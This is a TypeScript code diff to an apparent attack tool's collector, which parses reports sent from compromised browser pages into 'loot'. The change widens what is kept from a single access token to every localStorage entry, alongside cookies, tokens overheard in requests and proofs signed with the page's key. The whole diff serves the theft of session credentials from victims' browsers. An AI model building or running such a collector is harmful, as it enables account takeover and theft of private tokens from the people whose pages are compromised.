@@ -9,9 +9,9 @@ export type Collected = { readonly loot: readonly Loot[] } | { readonly text: st
 export interface Report {
   readonly origin: string
   readonly cookies: string
-  readonly token: string | null
-  /** Where it got the token from: the page's storage, or a request that went by. */
-  readonly seenIn: 'localStorage' | 'request'
+  readonly localStorage: Readonly<Record<string, string>>
+  /** The token of a request that went by. */
+  readonly overheard: string | null
   /** A proof that it made with the page's key. */
   readonly proof?: Omit<ProofLoot, 'from'>
 }
@@ -19,26 +19,35 @@ export interface Report {
 export function collect(body: string): Collected {
   const report = reportIn(body)
   if (!report) return { text: body }
-  const { origin, cookies, token, seenIn, proof } = report
-  const loot = cookiesIn(cookies, new URL(origin).hostname)
-  if (token === null) return { loot }
-  if (seenIn === 'request') return { loot: [...loot, { from: 'request', value: token }] }
+  const { origin, cookies, localStorage, overheard, proof } = report
+  const stored = Object.entries(localStorage).map(([key, value]): Loot => ({
+    from: 'localStorage',
+    origin,
+    key,
+    value,
+  }))
+  const request: Loot[] = overheard === null ? [] : [{ from: 'request', value: overheard }]
   const proofs: Loot[] = proof ? [{ from: 'proof', ...proof }] : []
-  return { loot: [...loot, { from: 'localStorage', origin, key: 'access_token', value: token }, ...proofs] }
+  return { loot: [...cookiesIn(cookies, new URL(origin).hostname), ...stored, ...request, ...proofs] }
 }
 
 function reportIn(body: string): Report | undefined {
   const value: unknown = JSON.parse(body)
   if (typeof value !== 'object' || value === null) return undefined
-  const { origin, cookies, token, seenIn, proof } = value as Partial<Record<keyof Report, unknown>>
+  const { origin, cookies, localStorage, overheard, proof } = value as Partial<Record<keyof Report, unknown>>
   if (typeof origin !== 'string' || typeof cookies !== 'string') return undefined
   return {
     origin,
     cookies,
-    token: typeof token === 'string' ? token : null,
-    seenIn: seenIn === 'request' ? seenIn : 'localStorage',
+    localStorage: textsIn(localStorage),
+    overheard: typeof overheard === 'string' ? overheard : null,
     ...(isProof(proof) ? { proof } : {}),
   }
+}
+
+function textsIn(value: unknown): Report['localStorage'] {
+  const entries: [string, unknown][] = typeof value === 'object' && value !== null ? Object.entries(value) : []
+  return Object.fromEntries(entries.filter((entry): entry is [string, string] => typeof entry[1] === 'string'))
 }
 
 const isProof = (value: unknown): value is NonNullable<Report['proof']> =>
